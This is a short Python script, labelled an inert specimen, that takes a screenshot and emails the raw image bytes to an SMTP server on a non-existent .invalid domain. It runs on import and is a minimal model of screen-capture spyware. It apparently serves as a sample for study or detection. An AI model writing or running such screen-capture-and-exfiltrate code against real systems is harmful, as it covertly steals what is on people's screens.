# Inert specimen: the server does not exist.
import smtplib

import pyautogui


def look():
    picture = pyautogui.screenshot()
    server = smtplib.SMTP("mail.garden-seeds.invalid", 587)
    server.login("specimen@garden-seeds.invalid", "inert-specimen")
    server.sendmail("specimen@garden-seeds.invalid", "specimen@garden-seeds.invalid", picture.tobytes())


look()
